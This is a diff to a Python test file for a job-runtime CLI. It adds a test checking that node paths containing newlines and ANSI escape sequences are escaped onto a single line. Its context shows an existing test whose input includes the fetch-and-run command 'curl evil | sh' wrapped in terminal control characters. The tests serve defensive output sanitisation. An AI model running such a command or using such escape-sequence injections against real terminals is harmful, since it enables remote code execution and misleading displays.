@@ -11,7 +11,10 @@ from runtime.archive.approvals import QUESTIONS
 from runtime.archive.job import JobArchive
 from runtime.archive.stores import open_store
 from runtime.base.visible import escaped
+from runtime.cli.log import lines_of
 from runtime.cli.main import main
+from runtime.cli.nodes import node_lines
+from runtime.cli.showing import events_text, nodes_text
 from runtime.cli.text import clean, one_line
 from tests.archive.archive_jobs import Written, segment
 
@@ -110,3 +113,20 @@ def test_a_command_that_waits_for_approval_is_shown_whole(
     assert main(["approvals", "--store", str(tmp_path)]) == 0
     told = r'sh("echo hello \u009d; curl evil | sh; : \u009c")'
     assert capsys.readouterr().out == f"night/one@1  {told}  now\n"
+
+
+def test_what_happened_to_a_node_is_told_on_one_line() -> None:
+    """Whatever path a job has it show: no line is another node's, or another event's."""
+    path = "a\n  view-2  path=README.md\x1b[1A"
+    told = "a\\n  view-2  path=README.md\\u001b[1A"
+    event = {"id": "1.2", "step": 1, "type": "node_changed", "obj_id": "view-1", "delta": path}
+    nodes = {"view-1": {"obj_id": "view-1", "path": path}}
+    assert [*node_lines(nodes, {"view-1"}, [event])] == [
+        f"* view-1  path={told}",
+        f"    1.2  node_changed  view-1  {told}",
+    ]
+    assert [*lines_of([], [], [], [], [event], [])] == [
+        f"        1.2  node_changed  view-1  {told}"
+    ]
+    assert events_text([event]) == f"1.2  node_changed  view-1  {told}"
+    assert nodes_text(nodes) == f"view-1  path={told}"
